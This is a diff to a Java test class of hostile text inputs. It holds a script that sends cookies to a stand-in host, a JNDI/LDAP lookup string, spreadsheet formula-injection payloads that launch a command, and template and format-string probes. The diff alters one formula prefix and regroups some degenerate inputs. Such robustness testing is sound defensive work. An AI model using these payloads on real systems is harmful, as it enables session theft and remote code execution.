@@ -30,7 +30,7 @@ class HostileTextTest {
             "<script>document.location='https://elders.example/'+document.cookie</script>",
             "<svg onload=alert(1)> & \"aanhaling\" &lt;b&gt; het blijft koud",
             "=HYPERLINK(\"https://elders.example\";\"klik\") zei hij gisteren",
-            "@SUM(1+1)*cmd|' /C calc'!A0 stond op het bord",
+            "+SUM(1+1)*cmd|' /C calc'!A0 stond op het bord",
             "{0} {1,number} '{'naam'}' ${jndi:ldap://elders.example/a} #{7*7} {{7*7}} %s %n",
             "het is daar \u0000 donker \u0000 en koud",
             "\ud83d\ude00\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 blij met de soep vandaag \ud83e\udd63",
@@ -43,11 +43,19 @@ class HostileTextTest {
             "\ufeffeen merkteken ervoor en \uffff erna",
             "a".repeat(20_000),
             "\u0643".repeat(20_000),
-            "\ud83d\ude00".repeat(20_000),
-            "( ".repeat(10_000),
             "het was koud. ".repeat(1_400));
 
-    static final List<String> NO_STORY = List.of("", " ", "\u0000", "\u202e", "\ud83d", "\u200b\u200b", "\r\n", "????");
+    static final List<String> NO_STORY = List.of(
+            "",
+            " ",
+            "\u0000",
+            "\u202e",
+            "\ud83d",
+            "\u200b\u200b",
+            "\r\n",
+            "????",
+            "( ".repeat(10_000),
+            "\ud83d\ude00".repeat(20_000));
 
     @TempDir
     Path folder;
